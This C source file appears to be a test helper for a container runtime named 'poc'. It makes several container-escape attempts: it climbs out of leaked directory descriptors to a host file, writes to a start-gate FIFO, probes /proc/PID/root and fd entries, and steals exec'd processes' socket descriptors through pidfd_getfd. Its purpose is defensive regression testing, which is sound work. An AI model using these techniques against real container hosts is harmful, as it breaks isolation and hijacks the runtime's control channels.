/*
 * What a hostile process in a container made from an OCI bundle (`poc create`/`start`/`exec
 * --process`) tries, one subcommand per attack. As in attack.c, every attempt prints one line, and
 * "ESCAPE ..." when it reached something of the host's; tests/escape_oci.rs asserts on them.
 * Built statically by tests/attack/build.sh.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Reads the host-only marker through `dirfd` by climbing far enough to reach any root. */
static int try_marker(int dirfd, const char *marker, const char *token, const char *how) {
  char path[4096];
  snprintf(path, sizeof path, "../../../../../../../../../../../../../../..%s", marker);
  int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return 0;
  char buf[256] = {0};
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n > 0 && strstr(buf, token)) {
    printf("ESCAPE %s read the host marker\n", how);
    fflush(stdout);
    return 1;
  }
  return 0;
}

/*
 * fds MARKER TOKEN: every descriptor this process was given beyond stdio. A directory is climbed
 * out of to the host's marker file; a FIFO is written to (the start gate of a container is one).
 */
static int fds(const char *marker, const char *token) {
  int found = 0;
  for (int fd = 3; fd < 64; fd++) {
    struct stat st;
    if (fstat(fd, &st) < 0)
      continue;
    char how[64];
    snprintf(how, sizeof how, "descriptor %d", fd);
    if (S_ISDIR(st.st_mode)) {
      printf("fd %d directory\n", fd);
      found |= try_marker(fd, marker, token, how);
    } else if (S_ISFIFO(st.st_mode)) {
      printf("fd %d fifo\n", fd);
      int flags = fcntl(fd, F_GETFL);
      if ((flags & O_ACCMODE) != O_RDONLY && write(fd, "S", 1) == 1) {
        printf("ESCAPE wrote to the FIFO at descriptor %d\n", fd);
        found = 1;
      }
    } else {
      printf("fd %d mode %o\n", fd, st.st_mode & S_IFMT);
    }
  }
  printf("fds done\n");
  fflush(stdout);
  return found;
}

/*
 * init PID MARKER TOKEN DEV INO: run by `exec` in a container that is created but not started,
 * against its init waiting at the start gate: its binary (poc's, host device and inode DEV:INO),
 * its root and every descriptor (a directory climbed to the host's marker; a FIFO, its start gate,
 * written to so that the container starts itself), and a mount, which needs CAP_SYS_ADMIN.
 */
static int init_attack(int pid, const char *marker, const char *token, dev_t dev, ino_t ino) {
  int found = 0;
  char path[300];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int exe = open(path, O_RDONLY | O_CLOEXEC);
  if (exe >= 0) {
    struct stat st;
    if (fstat(exe, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
      printf("ESCAPE opened poc's binary through %s\n", path);
      found = 1;
    }
    close(exe);
  } else {
    printf("open %s errno %d (%s)\n", path, errno, strerror(errno));
  }
  snprintf(path, sizeof path, "/proc/%d/root", pid);
  int root = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (root >= 0) {
    found |= try_marker(root, marker, token, path);
    close(root);
  } else {
    printf("open %s errno %d (%s)\n", path, errno, strerror(errno));
  }
  for (int fd = 3; fd < 32; fd++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    int d = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (d >= 0) {
      found |= try_marker(d, marker, token, path);
      close(d);
    }
    int w = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (w >= 0) {
      struct stat st;
      if (fstat(w, &st) == 0 && S_ISFIFO(st.st_mode) && write(w, "S", 1) == 1) {
        printf("ESCAPE wrote to %s\n", path);
        found = 1;
      }
      close(w);
    } else if (errno != ENOENT) {
      printf("open %s errno %d (%s)\n", path, errno, strerror(errno));
    }
  }
  mkdir("/tmp/m", 0755);
  if (mount("tmpfs", "/tmp/m", "tmpfs", 0, NULL) == 0) {
    printf("ESCAPE mounted a tmpfs (CAP_SYS_ADMIN)\n");
    found = 1;
  } else {
    printf("mount errno %d (%s)\n", errno, strerror(errno));
  }
  printf("init done\n");
  fflush(stdout);
  return found;
}

static char state_of(int pid) {
  char path[64], buf[512];
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  int f = open(path, O_RDONLY | O_CLOEXEC);
  if (f < 0)
    return 0;
  ssize_t n = read(f, buf, sizeof buf - 1);
  close(f);
  if (n <= 0)
    return 0;
  buf[n] = 0;
  char *p = strrchr(buf, ')');
  return p && p[1] ? p[2] : 0;
}

/* True once `pid` runs something other than poc's memfd stub (its command), as far as we see. */
static int past_stub(int pid) {
  char path[64], exe[256] = {0};
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t n = readlink(path, exe, sizeof exe - 1);
  return n > 0 && !strstr(exe, "memfd:");
}

/*
 * steal: the container's init waits for each process `exec` starts in it (the next pid) and stops
 * it again and again (SIGSTOP lands on the way back from a system call: right after an exec,
 * before the new program's first instruction), each time trying to take its descriptors with
 * pidfd_getfd, which a dumpable process of the same user allows. A socket taken is poc's sync
 * channel: whoever holds it decides when `poc exec` returns, and what it reports. One line per
 * process watched.
 */
__attribute__((noreturn)) static void steal(void) {
  int next = getpid() + 1;
  for (;;) {
    int pidfd = syscall(SYS_pidfd_open, next, 0);
    if (pidfd < 0) {
      /* Not there yet, or came and went: a later process that exists moves us on to it. */
      for (int ahead = 1; ahead < 64; ahead++)
        if (kill(next + ahead, 0) == 0) {
          next += ahead;
          break;
        }
      continue;
    }
    int stops = 0, stolen = 0;
    for (;;) {
      if (syscall(SYS_pidfd_send_signal, pidfd, SIGSTOP, NULL, 0) < 0)
        break;
      stops++;
      for (int spin = 0; spin < 2000; spin++) {
        char s = state_of(next);
        if (s == 'T' || s == 't' || s == 'Z' || s == 0)
          break;
      }
      for (int fd = 3; fd < 32; fd++) {
        int mine = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (mine < 0)
          continue;
        struct stat st;
        if (fstat(mine, &st) == 0 && S_ISSOCK(st.st_mode)) {
          printf("ESCAPE took socket descriptor %d of exec'd process %d\n", fd, next);
          fflush(stdout);
          stolen = 1;
          /* Kept open: the process's parent waits for this socket's end. */
        } else {
          close(mine);
        }
      }
      int done = stolen || past_stub(next);
      syscall(SYS_pidfd_send_signal, pidfd, SIGCONT, NULL, 0);
      if (done || state_of(next) == 0)
        break;
      /* Let it run a little: a stop sent while it is inside exec still lands right after. */
      usleep(20);
    }
    close(pidfd);
    printf("watched %d: %d stops\n", next, stops);
    fflush(stdout);
    next++;
  }
}

/*
 * watch TOKEN: the init of a container whose pid namespace another container joins (a pod): every
 * process that appears in the namespace, by its command line. A process whose command line holds
 * TOKEN is a hook the runtime runs in its own (the host's) namespaces: it has no business here.
 */
__attribute__((noreturn)) static void watch(const char *token) {
  int seen = 0;
  char self[32];
  snprintf(self, sizeof self, "%d", getpid());
  printf("watching\n");
  fflush(stdout);
  for (;;) {
    DIR *proc = opendir("/proc");
    if (!proc)
      exit(1);
    struct dirent *p;
    while ((p = readdir(proc))) {
      if (p->d_name[0] < '1' || p->d_name[0] > '9' || !strcmp(p->d_name, self))
        continue;
      char path[300], cmd[512] = {0};
      snprintf(path, sizeof path, "/proc/%s/cmdline", p->d_name);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0)
        continue;
      ssize_t n = read(fd, cmd, sizeof cmd - 1);
      close(fd);
      for (ssize_t i = 0; i < n; i++)
        if (!cmd[i])
          cmd[i] = ' ';
      if (n > 0 && strstr(cmd, token) && !seen) {
        printf("SAW the runtime's hook as pid %s: %s\n", p->d_name, cmd);
        fflush(stdout);
        seen = 1;
      }
    }
    closedir(proc);
  }
}

int main(int argc, char **argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: oci fds|init|steal|watch ...\n");
    return 2;
  }
  const char *cmd = argv[1];
  if (!strcmp(cmd, "fds") && argc == 4)
    return fds(argv[2], argv[3]);
  if (!strcmp(cmd, "init") && argc == 7)
    return init_attack(atoi(argv[2]), argv[3], argv[4], (dev_t)strtoull(argv[5], 0, 10),
                       (ino_t)strtoull(argv[6], 0, 10));
  if (!strcmp(cmd, "watch") && argc == 3)
    watch(argv[2]);
  if (!strcmp(cmd, "steal"))
    steal();
  fprintf(stderr, "oci: bad arguments for %s\n", cmd);
  return 2;
}
